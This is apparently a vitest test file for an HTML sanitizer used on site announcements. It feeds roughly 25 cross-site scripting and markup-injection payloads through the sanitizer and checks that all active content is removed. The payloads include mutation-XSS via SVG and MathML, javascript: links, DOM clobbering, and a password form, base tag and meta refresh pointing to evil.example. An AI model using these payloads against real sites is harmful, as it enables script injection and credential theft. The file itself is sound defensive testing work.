import { JSDOM } from 'jsdom';
import { expect, it } from 'vitest';
import { sanitizeHtml } from './sanitizeHtml.ts';

/** Parses HTML as a browser does, inside an element of a page. */
const parse = (html: string) => new JSDOM(`<!doctype html><body><div id="it">${html}</div>`).window.document;

const hostile = [
  ['a script', '<script>alert(1)</script>'],
  ['a script within a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a handler', '<img src=x onerror=alert(1)>'],
  ['a handler behind a slash', '<svg/onload=alert(1)>'],
  ['a script’s address', '<a href="javascript:alert(1)">a</a>'],
  ['the same with a tab and entities', '<a href="jav&#x09;ascript&colon;alert(1)">a</a>'],
  ['data as an address', '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
  ['SVG with a script', '<svg><script>alert(1)</script></svg>'],
  ['SVG that animates an address', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>a</text></a></svg>'],
  [
    'SVG that uses another',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  ],
  ['MathML that turns into HTML', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
  ['a form in a form', '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">'],
  ['noscript that turns', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['a template', '<template><img src=x onerror=alert(1)></template>'],
  ['a form', '<form action="https://evil.example"><input name=password><button>Log in</button></form>'],
  ['a field outside of one', '<input autofocus onfocus=alert(1)><textarea></textarea><select><option>a</select>'],
  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="https://evil.example/x.swf"></object><embed src="x">'],
  ['a style', '<style>body{display:none}</style><p style="position:fixed;inset:0">a</p>'],
  ['a base', '<base href="https://evil.example/">'],
  ['a meta', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
  ['a link', '<link rel=stylesheet href="https://evil.example/x.css">'],
  ['a clobbered name', '<a id=location name=location href="https://evil.example">a</a><img name=cookie>'],
  ['a comment that does not end', '<!--><img src=x onerror=alert(1)>-->'],
  ['a null byte', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
] as const;

it.each(hostile)('LOB-11 removes all active content from %s, however often it is parsed', (_what, html) => {
  const clean = sanitizeHtml(`<p>before</p>${html}<p>after</p>`);
  const again = sanitizeHtml(clean);
  expect(again).toBe(clean);
  const page = parse(clean);
  const shown = page.querySelector('#it');
  expect(
    shown?.querySelectorAll(
      'script, style, form, input, button, textarea, select, iframe, object, embed, base, meta, link, svg, math, template',
    ),
  ).toHaveLength(0);
  for (const element of shown?.querySelectorAll('*') ?? []) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^srcdoc$|^id$|^name$/);
      expect(name === 'href' || name === 'src' ? value : '/').toMatch(/^(https:|mailto:|tel:|\/|x$|1?$)/);
    }
  }
  expect(shown?.textContent).toContain('before');
});

it('LOB-11 keeps the markup of announcements', () => {
  const html =
    '<h3>A</h3><p>b <strong>c</strong> <em>d</em><br>e</p><ul><li>f</li></ul><ol><li>g</li></ol><table><tbody><tr><td>h</td></tr></tbody></table>';
  expect(sanitizeHtml(html)).toBe(html);
});

it('LOB-11 sends no referrer with external links', () => {
  expect(sanitizeHtml('<a href="https://www.gamblingtherapy.org/" target="_blank">a</a>')).toBe(
    '<a href="https://www.gamblingtherapy.org/" target="_blank" rel="noopener noreferrer">a</a>',
  );
});
